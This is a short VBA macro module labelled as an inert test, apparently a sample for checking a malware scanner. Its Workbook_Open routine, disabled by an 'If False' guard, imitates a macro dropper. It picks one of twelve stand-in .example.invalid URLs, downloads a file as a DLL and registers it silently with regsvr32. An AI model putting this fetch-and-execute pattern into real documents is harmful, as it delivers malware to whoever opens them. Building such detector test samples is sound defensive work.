Attribute VB_Name = "Module1"
' INERT SEKISHO TEST
Sub Workbook_Open()
If False Then
a = Split("https://site0.example.invalid/ab0cd0x.zip,https://site1.example.invalid/ab1cd1x.zip,https://site2.example.invalid/ab2cd2x.zip,https://site3.example.invalid/ab3cd3x.zip,https://site4.example.invalid/ab4cd4x.zip,https://site5.example.invalid/ab5cd5x.zip,https://site6.example.invalid/ab6cd6x.zip,https://site7.example.invalid/ab7cd7x.zip,https://site8.example.invalid/ab8cd8x.zip,https://site9.example.invalid/ab9cd9x.zip,https://site10.example.invalid/ab10cd10x.zip,https://site11.example.invalid/ab11cd11x.zip", ",")
r = URLDownloadToFile(0, a(Int(Rnd * 12)), "inert.dll", 0, 0)
Shell "regsvr32 -s inert.dll"
End If
End Sub
